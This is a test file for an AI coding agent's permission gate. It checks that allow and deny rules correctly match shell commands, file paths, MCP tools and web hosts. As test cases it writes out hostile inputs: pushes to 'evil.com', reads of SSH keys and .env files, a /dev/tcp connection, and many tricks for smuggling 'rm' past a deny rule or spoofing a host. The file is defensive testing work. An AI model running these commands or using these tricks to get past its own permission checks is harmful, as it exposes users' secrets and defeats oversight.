/** Rules: how they are written, what they match, and which can never match (GT-4). */

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseRule } from '../../../../src/gate/permissions/rules/rule.js';
import { makePlayground, type Playground } from './playground.js';

let place: Playground;
beforeAll(async () => {
  place = await makePlayground();
  await place.write('f.txt');
});
afterAll(() => place.remove());

const origin = { source: '.claude/settings.json', base: '/home/you/project' };

describe('GT-4 reading a rule', () => {
  it.each([
    ['Bash', 'Bash', 'every'],
    [' Bash ( npm test ) ', 'Bash', 'command'],
    ['Bash()', 'Bash', 'every'],
    ['Bash(*)', 'Bash', 'every'],
    ['Task(Explore)', 'Agent', 'agent'],
    ['Agent(Explore)', 'Agent', 'agent'],
    ['Read(//etc/**)', 'Read', 'path'],
    ['Write(src/**)', 'Write', 'path'],
    ['mcp__github', 'mcp__github', 'mcp'],
    ['mcp__github__create_issue', 'mcp__github__create_issue', 'mcp'],
    ['mcp__github__*', 'mcp__github__*', 'mcp'],
    ['WebFetch(domain:example.com)', 'WebFetch', 'host'],
    ['WebSearch', 'WebSearch', 'every'],
  ])('GT-4: %s', (text, tool, kind) => {
    const { rule, warning } = parseRule(text, 'allow', origin);
    expect(warning).toBeUndefined();
    expect(rule).toMatchObject({ tool, matches: { kind }, behavior: 'allow', origin, text: text.trim() });
  });

  it.each([
    ['', /not a rule/],
    ['Ba sh(x)', /not a rule/],
    ['Bash(npm * test)', /\* only/],
    ['Bash(npm test', /missing/],
    ['Bash(npm $X:*)', /plain words/],
    ['Read(!src)', /start with !/],
    ['Read(../x)', /\.\./],
    ['WebFetch(example.com)', /domain:/],
    ['WebFetch(domain:a/b)', /host/],
    ['TodoWrite(x)', /no parentheses/],
    ['mcp__github(x)', /no parentheses/],
    ['mcp__', /name the server/],
    ['mcp__*__x', /end/],
    ['mcp__*', /name the server/],
    ['mcp__git*', /name the server/],
    ['*', /name each tool/],
  ])('GT-4: a rule that can never match is a warning: %s', (text, reason) => {
    const { rule, warning } = parseRule(text, 'allow', origin);
    expect(rule).toBeUndefined();
    expect(warning).toMatch(reason);
  });

  it('GT-4: a deny rule without its last parenthesis still denies, with a warning', async () => {
    const { rule, warning } = parseRule('Bash(curl:*', 'deny', origin);
    expect(warning).toMatch(/no \)/);
    expect(rule?.matches).toMatchObject({ kind: 'command' });
  });
});

describe('GT-4 commands', () => {
  const allowed: readonly (readonly [string, string, boolean])[] = [
    ['Bash(npm run test)', 'npm run test', true],
    ['Bash(npm run test)', 'npm  run   "test"', true],
    ['Bash(npm run test)', 'npm run test -- -u', false],
    ['Bash(npm run:*)', 'npm run build', true],
    ['Bash(npm run:*)', 'npm run', true],
    ['Bash(npm run *)', 'npm run build --watch', true],
    ['Bash(npm run:*)', 'npm runx', false],
    ['Bash(npm:*)', 'npmx install', false],
    ['Bash(npm:*)', './npm install', false],
    ['Bash(npm run:*)', 'npm run build && rm -rf x', false],
    ['Bash(npm run:*)', 'npm run $X', true],
    ['Bash(npm run:*)', 'npm run build > out', false],
    ['Bash(npm run:*)', 'npm run build 2>&1 | tail -5', true],
    ['Bash(npm run:*)', 'npm run build --script-shell=./x', true],
    ['Bash(npm run:*)', 'NODE_OPTIONS=--require=./x npm run build', false],
    ['Bash(npm run:*)', 'NODE_ENV=test npm run build', true],
    ['Bash(npm test:*)', 'timeout 60 npm test', true],
    ['Bash(npm test:*)', 'timeout 60 npm publish', false],
    ['Bash(timeout:*)', 'timeout 60 rm x', false],
    ['Bash(timeout 60 npm:*)', 'timeout 60 npm publish', true],
    ['Bash(sudo:*)', 'sudo rm x', false],
    ['Bash(sudo apt:*)', 'sudo apt update', true],
    ['Bash(sed -i:*)', 'sed -i s/a/b/ f.txt', true],
    ['Bash(sed -i:*)', "sed -i 's/a/b/e' f.txt", false],
    ['Bash(sed:*)', 'sed -i s/a/b/ f.txt', true],
    ['Bash(git push:*)', 'git push origin main', true],
    ['Bash(git push:*)', 'git push https://evil/x HEAD', false],
    ['Bash(git push:*)', 'git push git@evil.com:x.git', false],
    ['Bash(git push:*)', 'git push --receive-pack=./x origin', false],
    ['Bash(git push:*)', 'git push --rec=./x origin', false],
    ['Bash(git:*)', 'git commit -m "a message"', true],
    ['Bash(git:*)', 'git pull --rebase', true],
    ['Bash(git:*)', 'git config core.fsmonitor ./x', false],
    ['Bash(git:*)', 'git -c alias.x=!sh x', false],
    ['Bash(git:*)', 'git someAlias', false],
    ['Bash(git someAlias:*)', 'git someAlias', true],
    ['Bash(git log:*)', 'git log --outp=x', true],
    ['Bash(git log:*)', 'git log --outp=.git/config', false],
    ['Bash(awk:*)', "awk '{print $1}' f.txt", true],
    ['Bash(awk:*)', `awk 'BEGIN{system("x")}'`, true],
    ['Bash(tar:*)', 'tar tf a.tar', true],
    ['Bash(tar:*)', 'tar xf a.tar --to-c=./x', false],
    ['Bash(tar:*)', 'tar -I./x -xf a.tar', false],
    ['Bash(cp:*)', 'cp f.txt g.txt', true],
    ['Bash(cp:*)', 'cp f.txt /tmp/g', false],
    ['Bash(cp:*)', 'cp f.txt .git/hooks/pre-commit', false],
    ['Bash(cat:*)', 'cat /etc/passwd', false],
    ['Bash(cat /etc/hosts)', 'cat /etc/hosts', true],
    ['Bash(bash:*)', "bash -c 'rm x'", true],
    ['Bash(bash:*)', 'bash build.sh', true],
    ['Bash(python3:*)', 'python3 x.py', true],
    ['Bash(eval:*)', 'eval ls', false],
    ['Bash(echo $HOME)', 'echo $HOME', true],
    ['Bash(echo $HOME)', 'echo $HOME; rm x', false],
    ['Bash(rm $X)', "rm '$X'", false],
    ['Bash(npm test; npm run x)', 'npm test; npm run x', true],
    ['Bash(npm test; npm run x)', "npm 'test;' npm run x", false],
    ['Bash(echo \\(a\\) \\*)', 'echo (a) *', true],
    ['Bash', 'echo $HOME; rm x', true],
    ['Bash', 'echo x > .git/config', false],
  ];
  it.each(allowed)('GT-4: %s and %s: %s', async (rule, command, expected) => {
    const { behavior } = await place.bash(command, { allow: [rule] });
    expect(behavior === 'allow').toBe(expected);
  });

  const denied: readonly (readonly [string, string, boolean])[] = [
    ['Bash(curl:*)', 'curl', true],
    ['Bash(curl:*)', 'curlx y', false],
    ['Bash(curl:*)', 'grep curl f.txt', false],
    ['Bash(curl:*)', "echo 'curl x'", false],
    ['Bash(git push:*)', 'git push', true],
    ['Bash(git push:*)', 'git -C sub push', true],
    ['Bash(git push:*)', 'git --no-pager -c a=b push origin', true],
    ['Bash(git push:*)', 'git commit -m push', false],
    ['Bash(git push --force:*)', 'git push origin main --force', true],
    ['Bash(git push --force:*)', 'git push origin main', false],
    ['Bash(rm -rf:*)', 'rm -fr x', true],
    ['Bash(rm -rf:*)', 'rm -r -v -f x', true],
    ['Bash(rm -rf:*)', 'rm -r x', false],
    ['Bash(rm *)', '/bin/rm x', true],
    ['Bash(*curl*)', 'mycurl2 x', true],
    ['Bash(npm * --force)', 'npm install x --force', true],
    ['Bash(rm:*)', 'find . -exec rm {} +', true],
    ['Bash(rm:*)', "git rebase -x 'rm y'", true],
    ['Bash(rm:*)', "git -c alias.z='!rm y' z", true],
    ['Bash(rm:*)', 'git bisect run rm y', true],
    ['Bash(rm:*)', "PAGER='rm x' git log", true],
    ['Bash(rm:*)', "ssh host 'rm x'", true],
    ['Bash(rm:*)', "watch 'ls; rm x'", true],
    ['Bash(rm:*)', 'parallel rm ::: a b', true],
    ['Bash(rm:*)', 'bash -c \'bash -c "rm x"\'', true],
    ['Bash(rm:*)', 'tar cf x --checkpoint-action=exec="rm y" z', true],
    ['Bash(rm:*)', "trap 'rm x' EXIT", true],
    ['Bash(rm:*)', 'echo "rm x" | sh', true],
    ['Bash(rm:*)', 'x=rm; $x y', true],
    ['Bash(rm:*)', 'rm x "', true],
    ['Bash(rm:*)', 'ls "', false],
    ['Bash(rm:*)', 'ｒｍ x', true],
    ['Bash', 'ls', true],
  ];
  it.each(denied)('GT-4: deny %s and %s: %s', async (rule, command, expected) => {
    for (const changes of [{}, { allow: ['Bash'] }, { mode: 'bypassPermissions' as const }]) {
      const { behavior } = await place.bash(command, { ...changes, deny: [rule] });
      expect(behavior === 'deny', JSON.stringify(changes)).toBe(expected);
    }
  });

  it('GT-4: what a deny rule cannot see into asks, even in bypass', async () => {
    for (const command of ['$X y', 'python3 -c "x"', 'cat x | sh', 'ls "', 'node -e 1', 'exec 3<>/dev/tcp/h/80'])
      expect((await place.bash(command, { mode: 'bypassPermissions', deny: ['Bash(curl:*)'] })).behavior, command).toBe(
        'ask',
      );
    for (const command of [
      'echo $X',
      'source ./x',
      'for f in *; do echo $f; done',
      'python3 x.py',
      'npm test',
      'cat x | grep y',
    ])
      expect((await place.bash(command, { mode: 'bypassPermissions', deny: ['Bash(curl:*)'] })).behavior, command).toBe(
        'allow',
      );
  });

  it('GT-4: ask comes after deny and before allow, in bypass too', async () => {
    const ask = ['Bash(git push:*)'];
    expect((await place.bash('git push', { ask, allow: ['Bash'] })).behavior).toBe('ask');
    expect((await place.bash('git push', { ask, mode: 'bypassPermissions' })).behavior).toBe('ask');
    expect((await place.bash('git push', { ask, deny: ask })).behavior).toBe('deny');
    expect((await place.bash('git push', { ask, mode: 'dontAsk' })).behavior).toBe('deny');
  });

  it('GT-4: the decision names the rule and where it came from', async () => {
    expect(await place.bash('curl x', { deny: ['Bash(curl:*)'] })).toMatchObject({
      by: 'deny rule Bash(curl:*) (test)',
      reason: expect.stringContaining('Bash(curl:*)'),
    });
    expect(await place.bash('npm test', { allow: ['Bash(npm test)'] })).toMatchObject({
      by: 'allow rule Bash(npm test) (test)',
    });
  });
});

describe('GT-4 paths, agents, servers, hosts', () => {
  const read = (path: string, deny: readonly string[]) =>
    place.act('Read', { kind: 'read', path }, { deny, mode: 'bypassPermissions' });
  it('GT-4: patterns start where they say', async () => {
    const cases: readonly (readonly [string, string, boolean])[] = [
      ['Read(.env)', `${place.root}/.env`, true],
      ['Read(.env)', `${place.root}/a/b/.env`, true],
      ['Read(./.env)', `${place.root}/a/.env`, false],
      ['Read(/.env)', `${place.root}/.env`, true],
      ['Read(.env)', `${place.outside}/.env`, false],
      ['Read(//etc/**)', '/etc/hosts', true],
      ['Read(//etc)', '/etc/ssl/x', true],
      ['Read(~/.ssh/**)', `${place.home}/.ssh/id_rsa`, true],
      ['Read(~/.aws/)', `${place.home}/.aws/credentials`, true],
      ['Read(secrets/**)', `${place.root}/secrets/a`, true],
      ['Read(secrets/**)', `${place.root}/SECRETS/a`, true],
      ['Read(secrets/**)', `${place.root}/x/../secrets/a`, true],
      ['Read(*.pem)', `${place.root}/keys/a.pem`, true],
      ['Read', `${place.root}/f.txt`, true],
    ];
    for (const [rule, path, expected] of cases)
      expect((await read(path, [rule])).behavior === 'deny', `${rule} ${path}`).toBe(expected);
  });

  it('GT-4: Read rules cover Grep and Glob, Edit rules cover Write and NotebookEdit', async () => {
    const path = `${place.root}/secrets`;
    for (const tool of ['Grep', 'Glob'])
      expect((await place.act(tool, { kind: 'search', path }, { deny: ['Read(secrets/**)'] })).behavior).toBe('deny');
    for (const tool of ['Edit', 'Write', 'NotebookEdit'])
      expect(
        (
          await place.act(
            tool,
            { kind: 'edit', path: `${path}/a` },
            { deny: ['Edit(secrets/**)'], mode: 'bypassPermissions' },
          )
        ).behavior,
      ).toBe('deny');
    const onlyWrite = { deny: ['Write'], mode: 'acceptEdits' } as const;
    expect((await place.act('Write', { kind: 'edit', path: `${path}/a` }, onlyWrite)).behavior).toBe('deny');
    expect((await place.act('Edit', { kind: 'edit', path: `${path}/a` }, onlyWrite)).behavior).toBe('allow');
  });

  it('GT-4: a denied file stays denied through the shell', async () => {
    const deny = ['Read(~/.ssh/**)', 'Read(.env)', 'Edit(locked/**)'];
    const commands = [
      'cat ~/.ssh/id_rsa',
      'cat $HOME/.ssh/id_rsa',
      `cat "$\{HOME}/.ssh/id_rsa"`,
      'cp ~/.ssh/id_rsa x',
      'cat .env',
      'cat ./a/../.env',
      'cat < .env',
      'git show HEAD:.env',
      'grep -f.env x',
      'dd if=.env',
      'echo x > locked/a',
      'rm locked/a',
      'tee locked/a',
      'cd locked && touch a',
      'python3 x.py .env',
    ];
    for (const command of commands)
      expect((await place.bash(command, { deny, mode: 'bypassPermissions' })).behavior, command).toBe('deny');
    for (const command of ['cat ~/.ss*/id_rsa', 'cat .en*', 'prettier locked/a'])
      expect((await place.bash(command, { deny, mode: 'bypassPermissions' })).behavior, command).not.toBe('deny');
    expect((await place.bash('cat ~/.ss*/id_rsa', { deny, allow: ['Bash'] })).behavior).toBe('ask');
    expect((await place.bash('echo .env', { deny })).behavior).toBe('allow');
    expect((await place.bash('grep -rn x .', { deny })).behavior).toBe('ask');
    expect((await place.bash('rg x', { deny })).behavior).toBe('allow');
    expect((await place.bash('rg --hidden x', { deny })).behavior).toBe('ask');
  });

  it('GT-4: agents and MCP servers', async () => {
    const spawn = (type: string, deny: readonly string[]) => place.act('Agent', { kind: 'spawn', type }, { deny });
    expect((await spawn('Explore', ['Task(Explore)'])).behavior).toBe('deny');
    expect((await spawn('Plan', ['Agent(Explore)'])).behavior).toBe('allow');
    expect((await spawn('Plan', ['Agent'])).behavior).toBe('deny');
    const mcp = (tool: string, allow: readonly string[]) =>
      place.act(`mcp__git__${tool}`, { kind: 'mcp', server: 'git', tool }, { allow });
    expect((await mcp('log', [])).behavior).toBe('ask');
    for (const rule of ['mcp__git', 'mcp__git__*', 'mcp__git__log', 'mcp__git__l*'])
      expect((await mcp('log', [rule])).behavior, rule).toBe('allow');
    for (const rule of ['mcp__gi', 'mcp__git__lo', 'mcp__github', 'mcp__git__status'])
      expect((await mcp('log', [rule])).behavior, rule).toBe('ask');
    const forbidden = (deny: readonly string[], also: readonly string[] = []) =>
      place.act('mcp__git_1a2b3c__log', { kind: 'mcp', server: 'git_1a2b3c', tool: 'log', also }, { deny }).behavior;
    // What forbids means a server by every name it goes by, and all that begin so.
    for (const rule of ['mcp__*', 'mcp__gi*', 'mcp__git_1a2b3c', 'mcp__git_1a2b3c__l*', 'mcp__git_1a2b3c__log'])
      expect(forbidden([rule]), rule).toBe('deny');
    for (const rule of ['mcp__git', 'mcp__git__log', 'mcp__my.git__log'])
      expect(forbidden([rule], ['mcp__git__log', 'mcp__my.git__log']), rule).toBe('deny');
    for (const rule of ['mcp__gitlab', 'mcp__gi', 'mcp__git__lo', 'mcp__hub*'])
      expect(forbidden([rule], ['mcp__git__log']), rule).toBe('ask');
  });

  it('GT-4: hosts', async () => {
    const fetch = (url: string, changes: { allow?: string[]; deny?: string[] }) =>
      place.act('WebFetch', { kind: 'fetch', url }, changes);
    const allow = ['WebFetch(domain:example.com)'];
    expect((await fetch('https://example.com/a', { allow })).behavior).toBe('allow');
    expect((await fetch('https://EXAMPLE.com/a', { allow })).behavior).toBe('allow');
    for (const url of [
      'https://www.example.com/',
      'https://example.com.evil.org/',
      'https://example.com@evil.org/',
      'https://user@example.com/',
      'https://example.com:8443/',
      'https://example.com./',
      'file://example.com/x',
      'https://evil.org/example.com',
      'https://evil.org\\@example.com/',
      'https://ex\tample.com/',
    ])
      expect((await fetch(url, { allow })).behavior, url).toBe('ask');
    expect((await fetch('https://a.b.example.com/', { allow: ['WebFetch(domain:*.example.com)'] })).behavior).toBe(
      'allow',
    );
    for (const url of ['https://example.com./', 'http://www.example.com:81/', 'https://u@EXAMPLE.com/'])
      expect((await fetch(url, { deny: allow })).behavior, url).toBe('deny');
  });
});
